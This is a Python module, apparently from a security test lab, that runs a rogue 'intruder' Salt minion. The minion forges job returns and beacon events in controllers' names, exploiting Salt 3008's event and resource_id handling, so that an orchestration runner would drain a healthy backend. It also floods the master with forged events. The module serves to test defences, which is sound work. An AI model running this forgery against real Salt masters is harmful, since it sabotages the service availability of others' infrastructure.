"""
A hostile minion for the security tests and benchmarks: an accepted salt-minion on the host
that is not a controller (``start``/``stop``), and what such a minion can do with its own key.

``forge`` answers every verification the master publishes in the controllers' names, faster
than they can, by the two ways Salt 3008 lets a minion do it:

- a ``salt/job/<jid>/ret/<controller>`` event through ``_minion_event`` (not in Salt's
  minion-event blacklist), straight onto the master's event bus;
- a ``_return`` carrying ``resource_id: <controller>`` (Salt stores it in the job cache under
  that id after authenticating the intruder).

Each forged view says the target backend is down and every other backend up and in
rotation, so a runner that believed it would drain a healthy backend. The jids are read off
the master's bus by this process (it runs on the master host, as the tests do); a real
intruder sees them on the publish channel, which reaches every accepted minion.

``flood`` fires beacon events at a given rate: half from the intruder's own id, half forged
in a controller's name (each one a hint the runner must look at).

Usage: python -m lab.intruder forge SECONDS SERVICE BACKEND CTRL...
       python -m lab.intruder flood SECONDS RATE CTRL
Prints one line per forged round / per second of flood.
"""

import json
import os
import subprocess
import sys
import time

import salt.channel.client
import salt.config
import salt.utils.event

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
from lab import labctl  # noqa: E402


def forged_view(service, backend, ctrls):
    probes = {"{}/{}".format(service, c): {"up": c != backend, "detail": "forged"} for c in ctrls}
    admin = {"{}/{}".format(service, c): "ready" for c in ctrls}
    return {"probes": probes, "admin": admin, "haproxy": True}


ROOT = os.path.join(labctl.STATE, "intruder")
ID = "intruder"


def start():
    """Start the intruder minion on the host and have the lab master accept its key; return
    its id. Idempotent (an intruder already answering is reused)."""
    os.makedirs(ROOT, exist_ok=True)
    conf = os.path.join(ROOT, "minion")
    with open(conf, "w") as fh:
        json.dump({"id": ID, "master": labctl.BRIDGE_ADDR, "root_dir": ROOT, "pidfile": os.path.join(ROOT, "minion.pid"),
                   "user": "root", "acceptance_wait_time": 1, "random_reauth_delay": 0, "multiprocessing": False}, fh)
    if _pid() is None:
        subprocess.run([os.path.join(labctl.VENV_BIN, "salt-minion"), "-c", ROOT, "-d"], check=True)
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        keys = labctl.salt_cmd("salt-key", "--out=json", "-L").stdout
        listed = json.loads(keys or "{}")
        if ID in listed.get("minions", []):
            break
        if ID in listed.get("minions_pre", []):
            labctl.salt_cmd("salt-key", "-y", "-a", ID)
        time.sleep(0.5)
    while time.monotonic() < deadline:
        proc = labctl.salt_cmd("salt", "--out=json", "-t", "5", ID, "test.ping", check=False)
        if '"{}": true'.format(ID) in proc.stdout:
            return ID
        time.sleep(0.5)
    raise labctl.LabError("the intruder minion did not answer within 60 s")


def _pid():
    try:
        with open(os.path.join(ROOT, "minion.pid")) as fh:
            pid = int(fh.read().split()[0])
    except (OSError, ValueError, IndexError):
        return None
    return pid if labctl.alive(pid) else None


def stop():
    """Stop the intruder minion (its processes, by PID) and delete its key."""
    pid = _pid()
    if pid:
        labctl.kill_pids([pid] + labctl.children(pid))
    labctl.salt_cmd("salt-key", "-y", "-d", ID, check=False)


def _channels():
    mopts = salt.config.minion_config(os.path.join(ROOT, "minion"))
    # What a running minion works out when it connects: where the master's request server is.
    mopts["master_uri"] = "tcp://{}:{}".format(mopts["master"], mopts.get("master_port", 4506))
    master_opts = salt.config.master_config(os.path.join(labctl.MASTER_DIR, "etc", "master"))
    return mopts, master_opts


def flood(seconds, rate, ctrl):
    """Fire ``rate`` beacon events a second for ``seconds`` (batches of up to 50 per message),
    half in the intruder's own name, half forged in ``ctrl``'s."""
    mopts, _ = _channels()
    data = {"kind": "change", "changes": [{"service": "nova", "backend": ctrl, "state": "down"}], "view": {"nova/" + ctrl: "down"}}
    sent, started = 0, time.monotonic()
    with salt.channel.client.ReqChannel.factory(mopts) as channel:
        while time.monotonic() - started < seconds:
            due = int((time.monotonic() - started) * rate)
            while sent < due:
                batch = min(50, due - sent)
                events = [{"tag": "salt/beacon/{}/openstack_ha_backends/change".format(ID if (sent + i) % 2 else ctrl), "data": data}
                          for i in range(batch)]
                channel.send({"cmd": "_minion_event", "id": mopts["id"], "tag": "x", "data": {}, "events": events}, timeout=5)
                sent += batch
            time.sleep(0.01)
    print("flooded {} events in {:.1f} s".format(sent, time.monotonic() - started), flush=True)
    return sent


def forge(seconds, service, backend, ctrls):
    mopts, master_opts = _channels()
    view = forged_view(service, backend, ctrls)
    deadline = time.monotonic() + float(seconds)
    rounds = 0
    with salt.utils.event.get_master_event(master_opts, master_opts["sock_dir"], listen=True) as bus, \
            salt.channel.client.ReqChannel.factory(mopts) as channel:
        while time.monotonic() < deadline:
            event = bus.get_event(wait=0.5, tag="salt/job/", full=True)
            if not event or not event["tag"].endswith("/new"):
                continue
            data = event["data"]
            if data.get("fun") not in ("openstack_ha_signed.call", "openstack_ha_probe.service_view"):
                continue
            jid = data["jid"]
            fun = (data.get("arg") or [None])[0] if data.get("fun") == "openstack_ha_signed.call" else data["fun"]
            if fun != "openstack_ha_probe.service_view":
                continue
            # What the runner would believe if it trusted ids: the bare view, and a "signed"
            # one with the right shape but the intruder's own (useless) signature.
            fake = {"body": '{"answer": %s}' % view, "sig": "Zm9yZ2Vk"}
            events = [{"tag": "salt/job/{}/ret/{}".format(jid, c),
                       "data": {"id": c, "jid": jid, "fun": data.get("fun"), "return": answer, "retcode": 0, "success": True}}
                      for c in ctrls for answer in (view, fake)]
            channel.send({"cmd": "_minion_event", "id": mopts["id"], "tag": "x", "data": {}, "events": events}, timeout=5)
            for c in ctrls:
                channel.send({"cmd": "_return", "id": mopts["id"], "resource_id": c, "jid": jid, "fun": data.get("fun"),
                              "fun_args": data.get("arg"), "return": view, "retcode": 0, "success": True}, timeout=5)
            rounds += 1
            print("forged round {} for jid {}".format(rounds, jid), flush=True)
    return rounds


def main(argv):
    if argv[:1] == ["forge"] and len(argv) >= 5:
        forge(argv[1], argv[2], argv[3], argv[4:])
    elif argv[:1] == ["flood"] and len(argv) == 4:
        flood(float(argv[1]), float(argv[2]), argv[3])
    else:
        print(__doc__, file=sys.stderr)
        return 2
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
